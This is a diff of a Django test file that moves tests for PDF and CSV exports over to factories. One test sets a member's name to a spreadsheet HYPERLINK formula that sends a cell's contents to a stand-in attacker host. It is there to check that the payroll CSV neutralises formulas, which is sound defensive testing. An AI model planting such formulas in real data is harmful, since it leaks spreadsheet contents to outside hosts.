@@ -16,9 +16,9 @@ from django.test import Client
 from django.utils import timezone
 from pypdf import PdfReader
 
-from payouts.services.settlement import settlement_run
 from tests.factories.api import api_as, login_verified
-from tests.factories.tenancy import ClaimFactory, ShiftFactory, TimesheetFactory
+from tests.factories.jobs import ClaimFactory, ShiftFactory, TimesheetFactory
+from tests.factories.payouts import PayoutItemFactory
 from werkstation.spreadsheet import csv_cell, csv_text
 
 pytestmark = [pytest.mark.django_db, pytest.mark.postgres]
@@ -46,12 +46,7 @@ def test_a_client_name_with_pdf_markup_prints_as_text(tenancy):
     renamed = api_as(t.shared_user).patch(f"/api/v1/clients/{t.shared.pk}/", {"name": HOSTILE})
     assert renamed.status_code == 200
     worked = ShiftFactory(job=t.job_a, start=timezone.now() - timedelta(days=2))
-    sheet = TimesheetFactory(
-        claim=ClaimFactory(shift=worked, user=t.member_a, status="completed"),
-        status="approved",
-        decided_at=timezone.now(),
-    )
-    settlement_run(timesheet_ids=[sheet.pk])
+    TimesheetFactory(settled=True, claim=ClaimFactory(shift=worked, user=t.member_a))
     day = worked.local_date.isoformat()
     issued = api_as(t.treasurer_a).post(
         "/api/v1/cooperatives/alpha/invoices/",
@@ -94,22 +89,16 @@ def test_a_credit_note_reason_and_a_report_name_print_as_text(tenancy):
 
 
 def test_the_payroll_file_neutralises_formulas(tenancy):
-    from payouts.models import PayoutBatch, PayoutItem
-
     t = tenancy
     t.member_a.full_name = '=HYPERLINK("https://evil.example/?"&A1,"Loon")'
     t.member_a.save(update_fields=["full_name"])
-    batch = PayoutBatch.objects.create(
-        cooperative=t.coop_a, status="executed", execution_date=timezone.localdate()
-    )
-    PayoutItem.objects.create(
-        batch=batch,
+    batch = PayoutItemFactory(
+        batch__cooperative=t.coop_a,
         member=t.member_a,
         amount_cents=1234,
         method="payroll",
-        status="paid",
-        idempotency_key=f"payroll-{batch.pk}",
-    )
+        paid=True,
+    ).batch
     url = f"/api/v1/cooperatives/alpha/payout-batches/{batch.pk}/payroll.csv"
     response = api_as(t.treasurer_a).get(url)
     assert response.status_code == 200
